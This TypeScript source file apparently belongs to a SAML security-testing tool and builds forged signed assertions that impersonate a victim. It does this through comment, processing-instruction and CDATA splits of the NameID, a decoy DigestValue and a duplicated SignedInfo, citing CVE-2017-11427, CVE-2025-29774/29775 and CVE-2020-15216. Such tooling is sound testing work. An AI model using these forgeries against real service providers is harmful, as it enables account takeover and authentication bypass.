/** Text that two parsers, or a parser and a canonicalizer, read differently. */

import type { Facts, Mutation } from '../protocol/types.ts';
import { namespaces } from '../protocol/uris.ts';
import { escapeText } from '../protocol/xml.ts';
import { edit, editInner, innersOf } from './elements.ts';
import { findAll, outerOf, rootOf, setAttribute, type Span } from '../protocol/xml-text.ts';
import { eachSignature } from './signatures.ts';
import { renamed, victimTwin, withNameIdContent, withVictimContent } from './victim.ts';

/** What an attacker appends to the victim's name to get an account of their own at the identity provider. */
export const suffix = '.attacker.example';

/** The identity that is really asserted when the victim's name is only its beginning. */
export function extendedVictim(facts: Pick<Facts, 'victim'>): string {
  return facts.victim.nameId.value + suffix;
}

/**
 * Writes the extended name as `content`, in the NameID and in every claim of the same value: many service providers know
 * people by a claim.
 */
function written(xml: string, facts: Facts, content: string): string {
  const whole = escapeText(extendedVictim(facts));
  const claims = editInner(xml, 'AttributeValue', (inner) => (inner === whole ? content : inner));
  return withNameIdContent(claims, content);
}

/** The signed name begins with the victim's and goes on after a comment (CVE-2017-11427 and its siblings). */
export function nameIdSplitByComment(): Mutation {
  return {
    plan: (plan, facts) => renamed(plan, facts.subject.nameId.value, extendedVictim(facts)),
    // Canonicalization without comments drops it again: the signature stays valid.
    afterSigning: (xml, facts) => written(xml, facts, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
  };
}

/** The same, but the comment was there when the IdP signed, and its canonicalization keeps comments. */
export function signedComment(): Mutation {
  const transforms = [
    'http://www.w3.org/2000/09/xmldsig#enveloped-signature',
    'http://www.w3.org/2001/10/xml-exc-c14n#WithComments',
  ];
  return {
    plan: (plan, facts) =>
      eachSignature(renamed(plan, facts.subject.nameId.value, extendedVictim(facts)), (signature) => ({
        ...signature,
        transforms,
      })),
    beforeSigning: (xml, facts) => written(xml, facts, `${escapeText(facts.victim.nameId.value)}<!---->${suffix}`),
  };
}

/** The end of the signed name stands in a processing instruction, which some canonicalizers print as text. */
export function nameIdEndsInInstruction(): Mutation {
  return {
    plan: (plan, facts) => renamed(plan, facts.subject.nameId.value, extendedVictim(facts)),
    afterSigning: (xml, facts) => written(xml, facts, `${escapeText(facts.victim.nameId.value)}<?x ${suffix}?>`),
  };
}

/** The signed NameID is written as text, a CDATA section and text again; canonicalization makes one text of it. */
export function nameIdSplitByCdata(): Mutation {
  return {
    afterSigning: (xml) => {
      const content = innersOf(xml, 'NameID')[0] ?? '';
      const [start, middle, end] = [content.slice(0, 1), content.slice(1, -1), content.slice(-1)];
      // A reference such as &amp; must not be cut in two; names that hold one are left whole.
      return content.includes('&') ? xml : withNameIdContent(xml, `${start}<![CDATA[${middle}]]>${end}`);
    },
  };
}

/** Content of the victim, the fitting digest as a comment in front of the genuine DigestValue (CVE-2025-29775). */
export function digestInComment(): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const fitting = innersOf(victimTwin(facts), 'DigestValue');
      const forged = withVictimContent(xml, facts);
      return editInner(forged, 'DigestValue', (genuine, index) => `<!--${fitting[index] ?? ''}-->${genuine}`);
    },
  };
}

/** Content of the victim, and a DigestValue with the fitting digest that stands before the genuine one, where nobody signed it. */
export function digestElsewhere(place: (xml: string, content: string) => string): Mutation {
  return {
    afterSigning: (xml, facts) =>
      place(withVictimContent(xml, facts), decoyDigest(innersOf(victimTwin(facts), 'DigestValue')[0] ?? '')),
  };
}

function decoyDigest(value: string): string {
  return `<DigestValue xmlns="http://www.w3.org/2000/09/xmldsig#">${value}</DigestValue>`;
}

/** A SignedInfo as canonical text writes it: with its own namespace, and a tag at the end of every element. */
function standing(xml: string, signedInfo: Span): string {
  const prefix = signedInfo.name.split(':').slice(0, -1);
  const text = outerOf(xml, signedInfo).replaceAll(/<([\w:-]+)([^<>]*?)\/>/g, '<$1$2></$1>');
  const root = rootOf(text);
  return root === undefined ? text : setAttribute(text, root, ['xmlns', ...prefix].join(':'), namespaces.ds);
}

/**
 * Content of the victim, a second SignedInfo with the fitting digest beside the genuine one (CVE-2025-29774). Both are written
 * canonically: goxmldsig before 1.1.0 canonicalizes only the first of them, and verifies the other one as it stands (CVE-2020-15216).
 */
export function secondSignedInfo(position: 'first' | 'last'): Mutation {
  return {
    afterSigning: (xml, facts) => {
      const twin = victimTwin(facts);
      const fitting = findAll(twin, 'SignedInfo').map((span) => standing(twin, span));
      const own = findAll(xml, 'SignedInfo').map((span) => standing(xml, span));
      return edit(withVictimContent(xml, facts), 'SignedInfo', (written, index) => {
        const [forged, genuine] = [fitting[index] ?? '', own[index] ?? written];
        return position === 'first' ? forged + genuine : genuine + forged;
      });
    },
  };
}
